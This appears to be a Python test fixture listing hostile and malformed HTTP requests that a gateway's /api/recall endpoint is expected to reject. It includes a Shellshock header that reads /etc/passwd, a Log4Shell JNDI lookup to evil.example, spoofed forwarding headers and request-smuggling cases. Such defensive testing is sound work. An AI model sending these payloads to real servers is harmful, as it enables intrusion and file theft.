"""Header fields that lie, and requests whose end can be read in two ways."""

from .bad import JSON, Bad

RECALL = "/api/recall"
CRLF = b"\r\n"


def text(*lines: bytes, body: bytes = b"") -> bytes:
    return CRLF.join((*lines, b"Connection: close", b"", body))


def refused(name: str, *lines: bytes, body: bytes = b"", code: str | None = "bad_request", status: int = 400) -> Bad:
    return Bad(name, status, code, raw=text(*lines, body=body), shape="json" if code else "")


def keyless(name: str, *fields: tuple[str, str], **more) -> Bad:
    """Fields that other servers trust change nothing: a key is wanted."""
    return Bad(name, 401, "invalid_key", **{"method": "GET", "path": RECALL, "who": None, "fields": fields, **more})


POST = b"POST /api/recall HTTP/1.1"
HOST = b"Host: gateway.example"

ROWS = [
    keyless("a path of IIS", ("X-Original-URL", "/healthz"), ("X-Rewrite-URL", "/healthz")),
    keyless("a forwarded address", ("X-Forwarded-For", "127.0.0.1"), ("X-Real-IP", "127.0.0.1")),
    keyless("a forwarded host", ("X-Forwarded-Host", "evil.example"), ("Forwarded", "host=evil.example")),
    keyless("a file of ours", ("X-Accel-Redirect", "/_pages/chat.html"), ("X-Sendfile", "/etc/passwd")),
    keyless("a request id of one's own", ("X-Request-Id", "evil-evil-evil"), absent=("evil-evil",)),
    keyless("variables of CGI", ("Request-Method", "POST"), ("Document-URI", "/healthz"), ("Remote-User", "admin")),
    keyless("httpoxy", ("Proxy", "http://127.0.0.1:1")),
    keyless("another method in a field", ("X-HTTP-Method", "DELETE"), ("X-Method-Override", "DELETE")),
    keyless("an empty field", ("X-Empty", "")),
    keyless("bytes above ASCII", ("X-Bytes", "\xff\xfe\x80")),
    keyless("an upgrade", ("Upgrade", "websocket"), ("Sec-WebSocket-Key", "x")),
    keyless("a range", ("Range", "bytes=0-1")),
    keyless("many ranges", ("Range", "bytes=" + ",".join(f"{n}-{n}" for n in range(1000)))),
    keyless("a condition", ("If-None-Match", "*"), ("If-Modified-Since", "Fri, 01 Jan 2100 00:00:00 GMT")),
    keyless("a failed condition", ("If-Match", '"x"')),
    keyless("an origin", ("Origin", "https://evil.example")),
    keyless("a question before a foreign request", ("Origin", "https://evil.example"),
            ("Access-Control-Request-Method", "POST")),
    keyless("compressed answers", ("Accept-Encoding", "gzip, br, zstd")),
    keyless("nothing that we have", ("Accept", "image/png"), ("Accept-Language", "../../etc/passwd")),
    keyless("the cookie of a session", ("Cookie", "session=" + "a" * 4000)),
    keyless("a function for a shell", ("User-Agent", "() { :; }; echo; /bin/cat /etc/passwd"), absent=("root:",)),
    keyless("a lookup for a logger", ("User-Agent", "${jndi:ldap://evil.example/a}"), absent=("jndi",)),
    keyless("100 fields", *((f"X-Field-{n}", "x") for n in range(100))),
    Bad("250 fields", 400, "malformed_request", method="GET", path=RECALL,
        fields=tuple((f"X-{n}", "") for n in range(250))),
    Bad("a field of 40 KB", 431, "headers_too_large", method="GET", path=RECALL, fields=(("X-Long", "a" * 40_000),),
        shape="json"),
    Bad("fields of 160 KB", 431, "headers_too_large", method="GET", path=RECALL,
        fields=tuple((f"X-{n}", "a" * 20_000) for n in range(8)), shape="json"),
    Bad("a line of 40 KB", 414, "uri_too_long", method="GET", path=RECALL + "?a=" + "b" * 40_000, shape="json"),
    Bad("an expectation that is none", 401, "invalid_key", method="POST", path=RECALL, who=None,
        fields=(("Expect", "the-unexpected"),), form="a=1"),
    *(Bad(f"a body called {content_type!r}", 415, "unsupported_media_type", body=b'{"prompt":"Hi"}',
          content_type=content_type)
      for content_type in (
          None, "", "text/plain", "application/octet-stream", "text/html", "application/jsonp",
          "json", "application/x-ndjson", "image/svg+xml", "application/xml",
          "application/x-www-form-urlencodedx", "multipart/mixed; boundary=b", "text/json", "*/*",
          "application/json, text/plain", "application json")),
    Bad("a body called by bytes that are no text", 400, "malformed_request", body=b"x", content_type="\xff"),
    Bad("a compressed body", 400, "invalid_json", content_type=JSON, fields=(("Content-Encoding", "gzip"),),
        body=b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\xab\xae\x05\x00C\xbf\xa6\xa3\x02\x00\x00\x00"),
    refused("no Host", b"GET /api/recall HTTP/1.1"),
    refused("two Hosts", b"GET /api/recall HTTP/1.1", HOST, b"Host: evil.example"),
    refused("a Host with a path", b"GET /api/recall HTTP/1.1", b"Host: gateway.example/../evil"),
    refused("a Host with a space", b"GET /api/recall HTTP/1.1", b"Host: gateway example"),
    refused("a Host with a NUL", b"GET /api/recall HTTP/1.1", b"Host: gateway\x00example"),
    refused("a Host of dots", b"GET /api/recall HTTP/1.1", b"Host: .."),
    refused("a NUL in a field", b"GET /api/recall HTTP/1.1", HOST, b"X-A: a\x00b"),
    refused("a NUL in a field's name", b"GET /api/recall HTTP/1.1", HOST, b"X\x00A: ab"),
    refused("a NUL in the path", b"GET /api/rec\x00all HTTP/1.1", HOST),
    refused("a space in the path", b"GET /api/recall x HTTP/1.1", HOST),
    refused("a version that is none", b"GET /api/recall HTTP/1.x", HOST),
    refused("a version far off", b"GET /api/recall HTTP/9.9", HOST, code="http_version_not_supported", status=505),
    refused("a protocol that is none", b"GET /api/recall FTP/1.1", HOST),
    refused("the greeting of TLS", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"),
    refused("the greeting of HTTP/2", b"PRI * HTTP/2.0", b"", b"SM"),
    refused("the greeting of a mail server", b"EHLO evil.example"),
    refused("a negative length", POST, HOST, b"Content-Length: -1"),
    refused("a length with a sign", POST, HOST, b"Content-Length: +1", body=b"x"),
    refused("a length with a fraction", POST, HOST, b"Content-Length: 1.0", body=b"x"),
    refused("a hexadecimal length", POST, HOST, b"Content-Length: 0x1", body=b"x"),
    refused("a length of no digits", POST, HOST, b"Content-Length: ", body=b"x"),
    refused("a length beyond 64 bits", POST, HOST, b"Content-Length: 99999999999999999999", body=b"x"),
    refused("two lengths", POST, HOST, b"Content-Length: 1", b"Content-Length: 2", body=b"xx"),
    refused("two lengths in one field", POST, HOST, b"Content-Length: 1, 2", body=b"xx"),
    refused("the same length twice", POST, HOST, b"Content-Length: 1", b"Content-Length: 1", body=b"x"),
    refused("a length and pieces", POST, HOST, b"Content-Length: 5", b"Transfer-Encoding: chunked", body=b"0\r\n\r\n"),
    refused("pieces named twice", POST, HOST, b"Transfer-Encoding: chunked", b"Transfer-Encoding: chunked",
            body=b"0\r\n\r\n"),
    refused("pieces and something else", POST, HOST, b"Transfer-Encoding: chunked, identity", body=b"0\r\n\r\n",
            code="not_implemented", status=501),
    refused("an unknown encoding of the transfer", POST, HOST, b"Transfer-Encoding: xchunked", body=b"0\r\n\r\n",
            code="not_implemented", status=501),
    refused("a compressed transfer", POST, HOST, b"Transfer-Encoding: gzip", body=b"x", code="not_implemented",
            status=501),
    refused("pieces in HTTP/1.0", b"POST /api/recall HTTP/1.0", HOST, b"Transfer-Encoding: chunked",
            body=b"0\r\n\r\n"),
    refused("a piece whose size is none", POST, HOST, b"Transfer-Encoding: chunked", body=b"xyz\r\n"),
    refused("a piece with a negative size", POST, HOST, b"Transfer-Encoding: chunked", body=b"-1\r\n"),
    refused("a piece beyond 64 bits", POST, HOST, b"Transfer-Encoding: chunked", body=b"fffffffffffffffff\r\n"),
    refused("a piece longer than it says", POST, HOST, b"Transfer-Encoding: chunked", body=b"1\r\nab\r\n0\r\n\r\n"),
    refused("a folded field", b"GET /api/recall HTTP/1.1", HOST, b"X-A: a", b" Authorization: Bearer <user_key>"),
    refused("a space before the colon", b"GET /api/recall HTTP/1.1", HOST, b"Authorization : Bearer <user_key>"),
    refused("a field without a colon", b"GET /api/recall HTTP/1.1", HOST, b"Authorization", code="invalid_key",
        status=401),
    refused("a field without a name", b"GET /api/recall HTTP/1.1", HOST, b": x"),
]
